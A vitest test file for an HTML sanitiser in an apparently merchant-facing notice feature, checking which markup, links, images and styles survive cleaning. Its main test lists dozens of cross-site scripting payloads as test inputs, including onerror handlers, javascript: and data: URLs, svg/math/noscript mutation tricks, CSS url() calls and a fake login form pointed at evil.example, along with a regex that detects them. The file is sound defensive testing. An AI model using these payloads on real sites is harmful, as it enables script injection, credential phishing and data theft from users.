import { expect, test } from 'vitest'
import { sanitise } from './html-sanitiser.ts'

const here = window.location.origin

test('prose, lists, tables and pictures stay as they are', () => {
  const text =
    '<h2>标题</h2><p>各位<strong>商户</strong>：<br><em>一</em> <u>二</u></p><ul><li>甲</li></ul>' +
    '<blockquote>引</blockquote><pre><code>PF2026</code></pre>'
  expect(sanitise(text)).toBe(text)
  expect(sanitise('<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>')).toBe(
    '<table tabindex="0"><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
  )
})

test.each([
  ['<script>steal()</script>'],
  ['<p><script src="https://evil.example/x.js"></script></p>'],
  ['<iframe src="https://evil.example"></iframe>'],
  ['<iframe srcdoc="<script>steal()</script>"></iframe>'],
  ['<object data="x.swf"></object><embed src="x.swf">'],
  ['<form action="https://evil.example"><input name="password"><button>登录</button></form>'],
  ['<textarea>x</textarea><select><option>y</option></select>'],
  ['<style>body{display:none}@import url(https://evil.example/x.css)</style>'],
  [
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0">',
  ],
  ['<base href="https://evil.example/">'],
  ['<svg><script>steal()</script><use href="#x"/></svg>'],
  ['<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>'],
  ['<svg><style><img src=x onerror=steal()></style></svg>'],
  [
    '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  ],
  ['<math href="javascript:steal()">x</math>'],
  ['<video src="https://evil.example/x" autoplay></video><audio src="x"></audio>'],
  ['<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>'],
  ['<template><img src=x onerror=steal()></template>'],
  ['<details ontoggle=steal() open>x</details><dialog open>y</dialog>'],
  ['<img src=x onerror=steal()>'],
  ['<p onclick="steal()" onpointerenter=steal()>x</p>'],
  ['<div style="background:url(https://evil.example/a)">x</div>'],
  ['<div style="position:fixed;inset:0;z-index:9999">x</div>'],
  ['<p style="text-align:expression(steal())">x</p>'],
  ['<p style="font-weight:var(--x, url(https://evil.example))">x</p>'],
  ['<p style="text-align:center;background-image:image-set(\'https://evil.example/a\' 1x)">x</p>'],
  ['<p style="color:red;\\62 ackground:\\75 rl(https://evil.example)">x</p>'],
  ['<a href="javascript:steal()">x</a>'],
  ['<a href=" java\nscript:steal()">x</a>'],
  ['<a href="&#106;avascript&colon;steal()">x</a>'],
  ['<a href="data:text/html,<script>steal()</script>">x</a>'],
  ['<a href="vbscript:steal()">x</a><a href="blob:https://evil.example/1">y</a>'],
  [
    '<a href="//evil.example/x">x</a><a href="/\\evil.example">y</a><a href="/\t/evil.example">z</a>',
  ],
  ['<img src="https://evil.example/pixel.gif">'],
  ['<img src="data:image/svg+xml,<svg onload=steal()>">'],
  ['<img srcset="https://evil.example/1.png 2x" src="javascript:steal()">'],
  ['<table background="https://evil.example/a"><tr><td>x</td></tr></table>'],
  [
    '<p tabindex="9" target="_top" rel="opener" id="root" class="shell-header" name="x" data-x="1" aria-label="y" slot="z">x</p>',
  ],
])('nothing that runs, loads, sends or covers is left of %s', (hostile) => {
  const clean = sanitise(hostile)

  expect(clean).not.toMatch(
    /steal|evil|script:|data:|blob:|url\(|position|<(?:script|style|iframe|form|input|button|svg|math|template|object)|\s(?:on\w+|id|class|name|srcset|background)=/i,
  )
})

test('links lead into the product, or to http and https in a window of their own', () => {
  expect(sanitise('<a href="/merchant/account/recharge" target="_top">去</a>')).toBe(
    '<a href="/merchant/account/recharge">去</a>',
  )
  expect(sanitise('<a href="https://example.com/a?b=1" rel="opener">去</a>')).toBe(
    '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">去</a>',
  )
  expect(sanitise('<a href="javascript:steal()">说明</a>')).toBe('<a>说明</a>')
  expect(sanitise('<a href="#top">说明</a>')).toBe('<a>说明</a>')
})

test('pictures come from the product; the words of a foreign one stay', () => {
  expect(sanitise('<img src="notice/a.png" alt="图">')).toBe(
    '<img src="/sys/common/static/notice/a.png" alt="图" loading="lazy">',
  )
  expect(sanitise(`<img src="${here}/notice/a.png" alt="图" width="40">`)).toBe(
    `<img src="${here}/notice/a.png" alt="图" width="40" loading="lazy">`,
  )
  expect(sanitise('<p>见<img src="https://evil.example/a.png" alt="流程图">。</p>')).toBe(
    '<p>见流程图。</p>',
  )
})

test('of styles only those stay that arrange a text', () => {
  expect(
    sanitise(
      '<p style="text-align: center; color: #000; font-size: 90px; font-weight: bold">x</p>',
    ),
  ).toBe('<p style="text-align: center; font-weight: bold">x</p>')
  expect(sanitise('<p style="color: red">x</p>')).toBe('<p>x</p>')
})

test('a text that is no HTML stays what it is', () => {
  expect(sanitise('1 < 2 & 3')).toBe('1 &lt; 2 &amp; 3')
  expect(sanitise('')).toBe('')
})
